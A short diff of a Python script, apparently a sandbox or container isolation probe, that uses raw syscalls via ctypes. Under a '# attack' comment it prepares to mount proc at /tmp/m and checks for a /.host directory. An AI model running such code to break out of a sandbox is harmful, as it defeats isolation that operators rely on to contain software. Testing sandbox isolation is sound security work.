@@ -21,10 +21,13 @@ def syscall(x86_64, aarch64, *args):
     return libc.syscall(ctypes.c_long(number), *words), errno.errorcode.get(ctypes.get_errno(), "")
 
 
-os.path.isdir("/workspace") and os.listdir("/.host") == []
+os.path.samefile(os.environ["HOME"], ".") and not (os.path.exists("/.host") and os.listdir("/.host"))
 
 # attack
-os.makedirs("/tmp/m", exist_ok=True)
+try:
+    os.makedirs("/tmp/m", exist_ok=True)
+except OSError:
+    pass  # there is no /tmp of its own
 attributes = ctypes.create_string_buffer(32)
 old = {
     "proc": (165, 40, b"proc", b"/tmp/m", b"proc", 0, 0),
